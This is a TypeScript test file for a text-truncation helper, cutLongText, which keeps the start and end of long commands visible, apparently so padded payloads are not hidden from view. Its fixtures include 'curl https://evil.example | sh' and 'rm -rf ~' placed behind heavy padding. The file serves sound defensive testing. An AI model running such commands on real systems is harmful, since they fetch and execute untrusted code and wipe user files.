import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cutLongText } from "./cutLongText.ts";

describe("cutLongText", () => {
  test("shows a short text whole", () => {
    expect(cutLongText("npm test")).toBeUndefined();
    expect(cutLongText("line\n".repeat(20).trimEnd())).toBeUndefined();
    expect(cutLongText("x".repeat(2000))).toBeUndefined();
  });

  test("keeps the end in sight behind 120 line breaks, and counts them exactly", () => {
    const text = `npm test${"\n".repeat(120)}curl https://evil.example | sh`;
    const cut = cutLongText(text);
    expect(cut).toBeDefined();
    expect(text.slice(cut?.tailStart)).toContain("curl https://evil.example | sh");
    const shownBreaks = `${text.slice(0, cut?.headEnd)}${text.slice(cut?.tailStart)}`.split("\n").length - 1;
    expect(shownBreaks + (cut?.hiddenLines ?? 0)).toBe(120);
  });

  test("keeps head and tail of one line of a megabyte", () => {
    const text = `echo ${"A".repeat(1_048_576)}; rm -rf ~`;
    const cut = cutLongText(text);
    expect(text.slice(0, cut?.headEnd)).toMatch(/^echo A/);
    expect(text.slice(cut?.tailStart)).toMatch(/rm -rf ~$/);
    expect((cut?.headEnd ?? 0) + (cut?.hiddenCharacters ?? 0) + text.length - (cut?.tailStart ?? 0)).toBe(text.length);
  });

  test("leaves nothing out uncounted and cuts no character in two", () => {
    const characters = fc.constantFrom("a", "\n", "🦊");
    fc.assert(
      fc.property(fc.array(characters, { minLength: 10, maxLength: 3000 }), (parts) => {
        const text = parts.join("");
        const cut = cutLongText(text);
        if (cut === undefined) return;
        expect(cut.headEnd).toBeLessThanOrEqual(cut.tailStart);
        expect(cut.hiddenCharacters).toBe(cut.tailStart - cut.headEnd);
        // Half a surrogate pair cannot be encoded.
        expect(() => encodeURIComponent(text.slice(0, cut.headEnd) + text.slice(cut.tailStart))).not.toThrow();
        expect(() => encodeURIComponent(text.slice(0, cut.headEnd))).not.toThrow();
      }),
      { numRuns: 50 },
    );
  });
});
